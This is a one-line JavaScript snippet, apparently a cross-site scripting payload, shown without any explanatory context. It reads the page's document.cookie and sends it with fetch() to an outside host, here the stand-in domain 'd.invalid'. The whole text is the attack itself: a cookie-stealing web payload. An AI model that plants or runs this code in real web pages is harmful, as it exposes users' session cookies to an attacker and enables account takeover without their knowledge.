function go() { fetch('https://d.invalid/' + arguments[0]); } go(document.cookie);
